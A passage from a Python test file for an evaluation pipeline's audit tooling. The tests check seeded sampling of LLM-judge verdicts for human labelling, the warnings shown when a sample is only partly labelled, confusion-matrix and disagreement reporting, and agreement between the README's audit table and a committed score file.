    labels were the first outputs' verdicts (one haystack). Every verdict of the 4 summaries x 5
    insights drawn (n = N): the numbering is seeded, and u01..u05 seldom come from one summary
    (in file order they always did)."""
    from pipeline.core import registry
    from pipeline.results.audit import make_sample

    client = _client(project)
    (run,) = client.search_runs([client.get_experiment_by_name("summhay").experiment_id])
    bench = registry.get("summhay")
    one_output = 0
    seeds = range(30)
    for seed in seeds:
        sample, _ = make_sample(
            project, _params(), bench, run.info.run_id, 20, seed, f"all-s{seed}", traces=False
        )
        assert [u.unit for u in sample.units] == [f"u{k:02d}" for k in range(1, 21)]
        first = {u.generation_id for u in sample.units[:5]}
        one_output += len(first) == 1
        rows = list(csv.DictReader((project / f"audits/all-s{seed}.csv").open(encoding="utf-8")))
        assert [r["unit"] for r in rows] == [u.unit for u in sample.units]  # labelled top-down
    again, _ = make_sample(project, _params(), bench, run.info.run_id, 20, 0, "all-s0-again",
                           traces=False)  # fmt: skip
    first_draw = Sample.model_validate_json((project / "audits/all-s0.json").read_bytes())
    assert [(u.unit, u.target_id) for u in again.units] == [
        (u.unit, u.target_id) for u in first_draw.units
    ]
    # 5 of 20 verdicts in a random order all from one of 4 summaries: 4 * C(5,5) / C(20,5)
    assert one_output < len(seeds) / 2


def test_a_partly_labelled_sample_says_the_interval_assumes_a_random_subset(
    project: Path,
) -> None:
    filled = _fill(project, _human(range(6)))
    result = score_sample(project, _params(), "s1", filled, n_resamples=50)
    assert result["audit.n"] == 6
    assert "6 of the 10 drawn units are labelled" in result["warning"]
    assert "random subset" in result["warning"]
    from pipeline.results.audit import render

    assert result["warning"] in render([result])
    full = score_sample(project, _params(), "s1", _fill(project, _human(range(10))))
    assert full.get("warning") is None


def test_audit_score_prints_the_confusion_matrix_and_the_disagreeing_units(
    project: Path,
) -> None:
    """Issue 44, point 14. Before: a kappa and intervals, nothing a person can act on."""
    from pipeline.results.audit import render

    result = score_sample(project, _params(), "s1", _fill(project, _human(range(10))))
    labels = [LABEL[x] for x in "FPN"]
    # judge rows F P N x person columns F P N (tests/metrics/test_audit.py): 3 1 0; 0 1 2; 1 0 2
    assert result["confusion"] == {"labels": labels, "counts": [[3, 1, 0], [0, 1, 2], [1, 0, 2]]}
    wrong = [k for k in range(10) if JUDGE[k] != HUMAN[k]]
    sample = _sample(project)
    assert result["disagreements"] == [
        {
            "unit": sample.units[k].unit,
            "item_id": sample.units[k].item_id,
            "output": sample.units[k].generation_id,
            "target": sample.units[k].target_id,
            "judge": LABEL[JUDGE[k]],
            "person": LABEL[HUMAN[k]],
        }
        for k in wrong
    ]
    text = render([result])
    assert "judge \\ person" in text
    row = next(
        x for x in text.splitlines() if x.strip().startswith("PARTIAL_COVERAGE") and "|" in x
    )
    assert row.split("|")[1].split() == ["0", "1", "2"], text
    for k in wrong:
        u = sample.units[k]
        line = next(x for x in text.splitlines() if x.strip().startswith(u.unit + " "))
        assert u.generation_id in line and u.target_id in line, line
        assert f"judge {LABEL[JUDGE[k]]}" in line and f"person {LABEL[HUMAN[k]]}" in line, line


def test_the_readme_s_released_audit_table_and_example_are_the_committed_result() -> None:
    """Issue 44, point 15: the README's figures of `lfbench audit score --released summhay` are
    those of the committed `audits/summhay-released.score.json` (before: typed in, and drifted
    from the code: the local judge's coverage 82.44 in the README, 82.59 from the code)."""
    from pipeline.results.audit import render

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    rows = json.loads((ROOT / "audits/summhay-released.score.json").read_text())["rows"]
    table = readme[readme.index("| run (news, paper mode) |") :].split("\n\n", 1)[0]
    lines = table.splitlines()[2:]
    assert len(lines) == len(rows)

    def ci(r: dict[str, Any], key: str, digits: int) -> str:
        low, high = r[f"{key}_ci_low"], r[f"{key}_ci_high"]
        return f"{r[key]:.{digits}f} [{low:.{digits}f}, {high:.{digits}f}]"

    for line, r in zip(lines, rows, strict=True):
        cells = [c.strip() for c in line.strip("|").split("|")]
        assert cells == [
            " / ".join(r["run_name"].split(" / ")[:3]),
            str(int(r["audit.n"])),
            ci(r, "audit.kappa", 2),
            f"{r['audit.judge_mean']:.1f}",
            ci(r, "audit.coverage_ppi", 1),
            f"{r['audit.lambda']:.2f}",
            ci(r, "audit.human_mean", 1),
        ]
    example = readme[readme.index("It prints, per run, what it logs") :]
    example = example.split("```\n", 2)[1]
    printed = render(rows).splitlines()
    for line in example.splitlines():
        assert line.strip() == "..." or line in printed, line
